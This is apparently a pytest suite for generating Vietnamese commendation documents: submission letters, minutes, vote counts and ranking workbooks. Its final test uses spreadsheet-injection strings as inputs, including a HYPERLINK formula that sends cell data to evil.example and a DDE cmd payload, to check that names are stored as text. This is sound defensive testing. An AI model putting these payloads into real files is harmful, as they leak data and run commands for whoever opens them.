"""Generated documents: read back with python-docx / openpyxl; stable bytes for equal input."""

from __future__ import annotations

import datetime as dt
import hashlib
import io
import zipfile
from dataclasses import replace
from decimal import Decimal

import docx
import openpyxl
import pytest
from docx.document import Document as DocxDocument
from docx.table import Table

from workflow.documents.generated import (
    DOCX_TYPE,
    XLSX_TYPE,
    CandidateTally,
    CommitteeMember,
    CriterionGroupInfo,
    CriterionInfo,
    DecisionEntry,
    DecisionList,
    GeneratedDocument,
    MeetingMinutes,
    Nominee,
    RankingRow,
    RankingTable,
    SubmissionLetter,
    TitleTally,
    VoteCountMinutes,
    decision_list,
    meeting_minutes,
    ranking_workbook,
    submission_letter,
    vn_date,
    vn_percent,
    vote_count_minutes,
)
from workflow.errors import InvalidInput

DAY = dt.date(2025, 12, 20)
ISSUER = "Khối thi đua các bộ, ngành Nội chính Trung ương"
VOTERS = (
    "Nguyễn Văn Bình",
    "Trần Thị Hoa",
    "Lê Minh Khôi",
    "Phạm Quốc Dũng",
    "Hoàng Thu Trang",
    "Vũ Đức Thắng",
    "Đặng Ngọc Lan",
    "Bùi Thanh Sơn",
    "Đỗ Hải Yến",
)


# --- builders -------------------------------------------------------------------------------


def _letter() -> SubmissionLetter:
    return SubmissionLetter(
        issuer=ISSUER,
        number="12/TTr-KNC",
        place="Hà Nội",
        date=DAY,
        recipient="Hội đồng Thi đua - Khen thưởng Trung ương",
        subject="Về việc đề nghị tặng Cờ thi đua của Chính phủ năm 2025",
        legal_basis=(
            "Căn cứ Luật Thi đua, khen thưởng số 06/2022/QH15 ngày 15/6/2022",
            "Căn cứ Nghị định số 98/2023/NĐ-CP ngày 31/12/2023 của Chính phủ",
        ),
        body=("Năm 2025, các đơn vị trong Khối đã hoàn thành xuất sắc nhiệm vụ được giao.",),
        nominees=(
            Nominee("Bộ Tư pháp", "Cờ thi đua của Chính phủ", "Dẫn đầu Khối, 98,50 điểm"),
            ("Thanh tra Chính phủ", "Bằng khen của Thủ tướng Chính phủ", "Xếp thứ hai"),
        ),
        vote_summary="Hội nghị tổng kết đã bỏ phiếu kín suy tôn Bộ Tư pháp dẫn đầu Khối.",
        vote_yes=8,
        vote_total=9,
        recipients=("Như trên", "Ban Thi đua - Khen thưởng Trung ương"),
        signer_position="Bộ trưởng Bộ Tư pháp",
        signer_name="Nguyễn Hải Ninh",
        signer_authority="TM. Khối thi đua",
    )


def _minutes() -> MeetingMinutes:
    return MeetingMinutes(
        issuer=ISSUER,
        number="05/BB-KNC",
        place="Hà Nội",
        date=DAY,
        subject="Họp bình xét thi đua năm 2025",
        venue="Trụ sở Bộ Tư pháp, 58-60 Trần Phú, Ba Đình, Hà Nội",
        start_time=dt.time(8, 30),
        end_time=dt.time(11, 15),
        chair_name="Nguyễn Hải Ninh",
        chair_position="Bộ trưởng Bộ Tư pháp, Khối trưởng",
        secretary_name="Trần Thị Hoa",
        secretary_position="Vụ Thi đua - Khen thưởng, Bộ Tư pháp",
        attendees_present=8,
        attendees_total=9,
        attendees=("Bộ Tư pháp", "Bộ Công an", "Thanh tra Chính phủ"),
        agenda=("Thông qua kết quả chấm điểm", "Bỏ phiếu kín suy tôn đơn vị dẫn đầu"),
        discussion=("Các đơn vị thống nhất với kết quả chấm điểm chéo.",),
        conclusions=("Thống nhất đề nghị tặng Cờ thi đua của Chính phủ cho Bộ Tư pháp.",),
    )


def _vote(participants: tuple[str, ...] = ()) -> VoteCountMinutes:
    return VoteCountMinutes(
        issuer=ISSUER,
        number="06/BB-KP",
        place="Hà Nội",
        date=DAY,
        venue="Trụ sở Bộ Tư pháp",
        session_name="Bỏ phiếu kín suy tôn đơn vị dẫn đầu Khối năm 2025",
        committee=(
            CommitteeMember("Lê Văn An", "Trưởng ban"),
            CommitteeMember("Phan Thị Mai", "Thành viên"),
            CommitteeMember("Ngô Quang Huy", "Thư ký"),
        ),
        voters_eligible=9,
        ballots_issued=9,
        ballots_received=9,
        ballots_valid=9,
        ballots_invalid=0,
        abstentions=0,
        tallies=(
            TitleTally(
                title_label="Cờ thi đua của Chính phủ",
                base=9,
                base_label="tổng số thành viên",
                threshold="trên 50%",
                rule="Quá nửa tổng số đơn vị thành viên đồng ý, bỏ phiếu kín",
                candidates=(
                    CandidateTally("Bộ Tư pháp", 8, True, "Đạt 88,9%, trên ngưỡng 50%."),
                    CandidateTally("Bộ Công an", 1, False, "Chỉ đạt 11,1%, dưới ngưỡng 50%."),
                ),
            ),
            TitleTally(
                title_label="Bằng khen của Thủ tướng Chính phủ",
                base=9,
                base_label="tổng số thành viên",
                threshold="trên 50%",
                rule="Bỏ phiếu lại giữa các đơn vị bằng phiếu",
                candidates=(CandidateTally("Thanh tra Chính phủ", 6, True, "Đạt 66,7%."),),
                round=2,
            ),
        ),
        warnings=("Đơn vị Khối trưởng được suy tôn dẫn đầu chính Khối mình.",),
        participants=participants,
    )


def _decision() -> DecisionList:
    return DecisionList(
        issuer="Thủ tướng Chính phủ",
        number="123/QĐ-TTg",
        date=dt.date(2026, 3, 5),
        decider="Thủ tướng Chính phủ",
        decided_title="Cờ thi đua của Chính phủ",
        subject="Các tập thể được tặng Cờ thi đua của Chính phủ năm 2025",
        entries=(
            DecisionEntry(
                "Bộ Tư pháp",
                "Cờ thi đua của Chính phủ",
                "Dẫn đầu phong trào thi đua Khối Nội chính năm 2025",
            ),
            DecisionEntry(
                "Kiểm toán Nhà nước",
                "Cờ thi đua của Chính phủ",
                "Dẫn đầu phong trào thi đua năm 2025",
            ),
        ),
    )


def _groups() -> tuple[CriterionGroupInfo, ...]:
    return (
        CriterionGroupInfo(
            "I",
            "Thực hiện nhiệm vụ chuyên môn",
            Decimal(60),
            (
                CriterionInfo("I.1", "Hoàn thành chỉ tiêu kế hoạch", Decimal(40)),
                CriterionInfo("I.2", "Cải cách hành chính", Decimal(20)),
            ),
        ),
        CriterionGroupInfo(
            "II",
            "Công tác thi đua, khen thưởng",
            Decimal(40),
            (CriterionInfo("II.1", "Phát hiện, nhân rộng điển hình tiên tiến", Decimal(40)),),
        ),
    )


def _ranking() -> RankingTable:
    def row(unit: str, a: str, b: str, bonus: str, pen: str, total: str, rank: int) -> RankingRow:
        points = {"I": Decimal(a), "II": Decimal(b)}
        flags = ("I.1: tự chấm 40, kiểm tra 30",) if unit == "Bộ Công an" else ()
        return RankingRow(
            unit, points, Decimal(bonus), Decimal(pen), Decimal(total), rank, gap_flags=flags
        )

    return RankingTable(
        cluster="Khối thi đua các bộ, ngành Nội chính Trung ương",
        year=2025,
        criteria_table="Bảng tiêu chí KNC-2025, phiên bản 1",
        date=DAY,
        groups=_groups(),
        # deliberately not in rank order
        rows=(
            row("Bộ Công an", "55.5", "35", "2", "1.25", "91.25", 2),
            row("Bộ Tư pháp", "58", "38.5", "3", "1", "98.5", 1),
            row("Thanh tra Chính phủ", "50", "30.75", "0", "0", "80.75", 3),
        ),
    )


# --- reading back ---------------------------------------------------------------------------


def _open(generated: GeneratedDocument) -> DocxDocument:
    return docx.Document(io.BytesIO(generated.content))


def _table_texts(table: Table) -> list[str]:
    return [p.text for row in table.rows for cell in row.cells for p in cell.paragraphs]


def _texts(generated: GeneratedDocument) -> str:
    document = _open(generated)
    parts = [p.text for p in document.paragraphs]
    for table in document.tables:
        parts.extend(_table_texts(table))
    return "\n".join(parts)


def _rows(table: Table) -> list[list[str]]:
    return [[cell.text for cell in row.cells] for row in table.rows]


def _table_with(document: DocxDocument, heading: str) -> Table:
    return next(
        t
        for t in document.tables
        if t.rows[0].cells[0].text == "STT" and any(c.text == heading for c in t.rows[0].cells)
    )


# --- formatting -----------------------------------------------------------------------------


def test_vietnamese_dates_pad_small_days_and_the_first_two_months() -> None:
    assert vn_date(DAY) == "ngày 20 tháng 12 năm 2025"
    assert vn_date(dt.date(2026, 2, 5)) == "ngày 05 tháng 02 năm 2026"
    assert vn_date(dt.date(2026, 3, 5)) == "ngày 05 tháng 3 năm 2026"


def test_percentages_have_one_decimal_and_a_comma() -> None:
    assert vn_percent(8, 9) == "88,9%"
    assert vn_percent(1, 9) == "11,1%"
    assert vn_percent(9, 9) == "100,0%"
    with pytest.raises(InvalidInput):
        vn_percent(1, 0)


# --- tờ trình -------------------------------------------------------------------------------


def test_submission_letter_has_the_administrative_layout_and_the_nominees() -> None:
    generated = submission_letter(_letter())
    document = _open(generated)
    text = _texts(generated)

    assert generated.content_type == DOCX_TYPE
    assert generated.filename == "to-trinh_12-TTr-KNC.docx"
    header = _table_texts(document.tables[0])
    assert "KHỐI THI ĐUA CÁC BỘ, NGÀNH NỘI CHÍNH TRUNG ƯƠNG" in header
    assert "CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM" in header
    assert "Độc lập - Tự do - Hạnh phúc" in header
    assert "Số: 12/TTr-KNC" in header
    assert "Hà Nội, ngày 20 tháng 12 năm 2025" in header
    for expected in (
        "TỜ TRÌNH",
        "Về việc đề nghị tặng Cờ thi đua của Chính phủ năm 2025",
        "Kính gửi: Hội đồng Thi đua - Khen thưởng Trung ương.",
        "Căn cứ Luật Thi đua, khen thưởng số 06/2022/QH15 ngày 15/6/2022;",
        "Kết quả: 8/9 phiếu đồng ý, đạt tỷ lệ 88,9%.",
        "Nơi nhận:",
        "- Như trên;",
        "- Lưu: VT.",
        "TM. KHỐI THI ĐUA",
        "BỘ TRƯỞNG BỘ TƯ PHÁP",
        "Nguyễn Hải Ninh",
    ):
        assert expected in text, expected
    nominees = _rows(_table_with(document, "Tên tập thể, cá nhân"))
    assert nominees[1][:3] == ["1", "Bộ Tư pháp", "Cờ thi đua của Chính phủ"]
    assert nominees[2][:3] == ["2", "Thanh tra Chính phủ", "Bằng khen của Thủ tướng Chính phủ"]


def test_submission_letter_uses_times_new_roman_on_a4() -> None:
    document = _open(submission_letter(_letter()))

    normal = document.styles["Normal"]
    assert normal.font.name == "Times New Roman"
    assert normal.font.size is not None
    assert normal.font.size.pt == 14
    section = document.sections[0]
    assert section.page_width is not None
    assert round(section.page_width.mm) == 210
    midnight = dt.datetime(2025, 12, 20, tzinfo=dt.UTC)
    assert document.core_properties.created == midnight
    assert document.core_properties.modified == midnight


# --- biên bản họp ---------------------------------------------------------------------------


def test_meeting_minutes_record_time_place_people_and_conclusions() -> None:
    generated = meeting_minutes(_minutes())
    text = _texts(generated)

    for expected in (
        "BIÊN BẢN",
        "Họp bình xét thi đua năm 2025",
        "bắt đầu vào hồi 08 giờ 30 phút, ngày 20 tháng 12 năm 2025",
        "2. Địa điểm: Trụ sở Bộ Tư pháp, 58-60 Trần Phú, Ba Đình, Hà Nội.",
        "có mặt 8/9 thành viên (88,9%)",
        "- Chủ trì: Nguyễn Hải Ninh",
        "- Thư ký: Trần Thị Hoa",
        "Bỏ phiếu kín suy tôn đơn vị dẫn đầu",
        "Thống nhất đề nghị tặng Cờ thi đua của Chính phủ cho Bộ Tư pháp.",
        "kết thúc vào hồi 11 giờ 15 phút",
        "THƯ KÝ",
        "CHỦ TRÌ",
    ):
        assert expected in text, expected


def test_meeting_minutes_refuse_more_present_than_members() -> None:
    with pytest.raises(InvalidInput, match="attendees_present"):
        meeting_minutes(replace(_minutes(), attendees_present=10))


# --- biên bản kiểm phiếu --------------------------------------------------------------------


def test_vote_count_minutes_show_counts_percentages_and_results() -> None:
    generated = vote_count_minutes(_vote())
    document = _open(generated)
    text = _texts(generated)

    for expected in (
        "BIÊN BẢN KIỂM PHIẾU",
        "Bỏ phiếu kín suy tôn đơn vị dẫn đầu Khối năm 2025",
        "Tỷ lệ tính trên tổng số thành viên: 9. Ngưỡng: trên 50%.",
        "Bằng khen của Thủ tướng Chính phủ – vòng 2 (bỏ phiếu lại)",
        "III. CẢNH BÁO VỀ TÍNH KHÁCH QUAN",
        "- Đơn vị Khối trưởng được suy tôn dẫn đầu chính Khối mình.",
        "TRƯỞNG BAN",
        "Lê Văn An",
    ):
        assert expected in text, expected
    counts = {row[1]: row[2] for row in _rows(_table_with(document, "Nội dung"))}
    assert counts["Số người có quyền bỏ phiếu"] == "9"
    assert counts["Số phiếu hợp lệ"] == "9"
    assert counts["Số phiếu không hợp lệ"] == "0"
    flag = _rows(_table_with(document, "Số phiếu đồng ý"))
    assert flag[0][3] == "Tỷ lệ (% tổng số thành viên)"
    assert flag[1][1:5] == ["Bộ Tư pháp", "8", "88,9%", "Đạt"]
    assert flag[2][1:5] == ["Bộ Công an", "1", "11,1%", "Không đạt"]
    assert flag[2][5] == "Chỉ đạt 11,1%, dưới ngưỡng 50%."


def test_vote_count_minutes_never_name_the_voters() -> None:
    generated = vote_count_minutes(_vote(participants=VOTERS))
    text = _texts(generated)
    raw = b"".join(
        zipfile.ZipFile(io.BytesIO(generated.content)).read(name)
        for name in zipfile.ZipFile(io.BytesIO(generated.content)).namelist()
    )

    for voter in VOTERS:
        assert voter not in text
        assert voter.encode("utf-8") not in raw
    counts = {row[1]: row[2] for row in _rows(_table_with(_open(generated), "Nội dung"))}
    assert counts["Số người đã tham gia bỏ phiếu"] == "9"


def test_vote_count_minutes_refuse_inconsistent_counts() -> None:
    with pytest.raises(InvalidInput, match="ballots_received"):
        vote_count_minutes(replace(_vote(), ballots_invalid=1))


# --- danh sách kèm theo quyết định ----------------------------------------------------------


def test_decision_list_names_the_decision_and_its_recipients() -> None:
    generated = decision_list(_decision())
    document = _open(generated)
    text = _texts(generated)

    assert generated.filename == "danh-sach-kem-qd_123-QD-TTg.docx"
    assert "DANH SÁCH" in text
    assert (
        "(Kèm theo Quyết định số 123/QĐ-TTg ngày 05 tháng 3 năm 2026 của Thủ tướng Chính phủ)"
        in text
    )
    rows = _rows(_table_with(document, "Tập thể, cá nhân"))
    assert rows[0] == ["STT", "Tập thể, cá nhân", "Danh hiệu, hình thức khen thưởng", "Thành tích"]
    assert [r[1] for r in rows[1:]] == ["Bộ Tư pháp", "Kiểm toán Nhà nước"]


# --- bảng xếp hạng --------------------------------------------------------------------------


def test_ranking_workbook_has_numbers_ranks_and_a_criteria_sheet() -> None:
    generated = ranking_workbook(_ranking())
    book = openpyxl.load_workbook(io.BytesIO(generated.content))
    sheet = book["Xếp hạng"]

    assert generated.content_type == XLSX_TYPE
    assert book.sheetnames == ["Xếp hạng", "Tiêu chí"]
    assert "Khối thi đua các bộ, ngành Nội chính Trung ương" in str(sheet["A2"].value)
    header_row = next(r for r in range(1, 20) if sheet.cell(row=r, column=1).value == "STT")
    header = [c.value for c in sheet[header_row]]
    assert header[:2] == ["STT", "Đơn vị"]
    assert header[2].startswith("I. Thực hiện nhiệm vụ chuyên môn")
    assert header[-5:] == ["Điểm thưởng", "Điểm trừ", "Tổng điểm", "Xếp hạng", "Cờ chênh lệch"]
    assert all(c.font.bold for c in sheet[header_row])
    assert sheet.freeze_panes == f"C{header_row + 1}"
    assert sheet.column_dimensions["B"].width > 30

    rows = [[c.value for c in row] for row in sheet.iter_rows(min_row=header_row + 1)]
    assert [r[1] for r in rows] == ["Bộ Tư pháp", "Bộ Công an", "Thanh tra Chính phủ"]
    assert [r[0] for r in rows] == [1, 2, 3]
    assert [r[7] for r in rows] == [1, 2, 3]
    assert rows[1][2:7] == [55.5, 35, 2, 1.25, 91.25]
    assert rows[1][8] == "I.1: tự chấm 40, kiểm tra 30"
    assert rows[0][8] is None
    for row in sheet.iter_rows(min_row=header_row + 1, min_col=3, max_col=8):
        for cell in row:
            assert cell.data_type == "n"
            assert isinstance(cell.value, int | float)
    assert sheet.cell(row=header_row + 1, column=6).number_format == "0.00"

    assert book.properties.created == dt.datetime(2025, 12, 20)
    assert book.properties.modified == dt.datetime(2025, 12, 20)
    criteria = [[c.value for c in row] for row in book["Tiêu chí"].iter_rows(min_row=2)]
    assert [r[0] for r in criteria] == ["I", "I.1", "I.2", "II", "II.1"]
    assert [r[2] for r in criteria] == [60, 40, 20, 40, 40]


def test_ranking_workbook_refuses_missing_group_points() -> None:
    table = _ranking()
    broken = replace(table.rows[0], group_points={"I": Decimal(1)})
    with pytest.raises(InvalidInput, match="Bộ Công an"):
        ranking_workbook(replace(table, rows=(broken, *table.rows[1:])))


# --- stable bytes ---------------------------------------------------------------------------

BUILDERS = [
    pytest.param(lambda: submission_letter(_letter()), id="submission_letter"),
    pytest.param(lambda: meeting_minutes(_minutes()), id="meeting_minutes"),
    pytest.param(lambda: vote_count_minutes(_vote(VOTERS)), id="vote_count_minutes"),
    pytest.param(lambda: decision_list(_decision()), id="decision_list"),
    pytest.param(lambda: ranking_workbook(_ranking()), id="ranking_workbook"),
]


@pytest.mark.parametrize("build", BUILDERS)
def test_sha256_is_over_the_bytes_and_stable_for_equal_input(build: object) -> None:
    assert callable(build)
    first: GeneratedDocument = build()
    second: GeneratedDocument = build()

    assert first.sha256 == hashlib.sha256(first.content).hexdigest()
    assert first.content == second.content
    assert first.sha256 == second.sha256
    with zipfile.ZipFile(io.BytesIO(first.content)) as archive:
        assert {info.date_time for info in archive.infolist()} <= {
            (2025, 12, 20, 0, 0, 0),
            (2026, 3, 5, 0, 0, 0),
        }


def test_different_input_gives_a_different_sha256() -> None:
    first = submission_letter(_letter())
    other = submission_letter(replace(_letter(), signer_name="Trần Văn Khác"))

    assert first.sha256 != other.sha256


@pytest.mark.parametrize("name", [
    '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")', "+1+cmd|' /C calc'!A0",
    "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1"])
def test_ranking_workbook_writes_a_unit_name_as_text_never_as_a_formula(name: str) -> None:
    """A unit or cluster name typed by a user is data: openpyxl stores a string starting with
    "=" as a formula, which Excel would run when the official ranking is opened."""
    doc = _ranking()
    first = replace(doc.rows[0], unit=name)
    doc = replace(doc, cluster=name, rows=(first, *doc.rows[1:]))

    book = ranking_workbook(doc)

    with zipfile.ZipFile(io.BytesIO(book.content)) as archive:
        sheets = [archive.read(n).decode() for n in archive.namelist()
                  if n.startswith("xl/worksheets/")]
    assert all("<f>" not in xml and "<f " not in xml for xml in sheets)
    sheet = openpyxl.load_workbook(io.BytesIO(book.content)).worksheets[0]
    cells = [c for r in sheet.iter_rows() for c in r if c.value is not None]
    named = [c for c in cells if c.value == name]
    assert named
    assert all(c.data_type == "s" for c in named)
    assert all(c.quotePrefix for c in named if name.startswith(("=", "+", "-", "@")))
    assert all(c.data_type != "f" for c in cells)
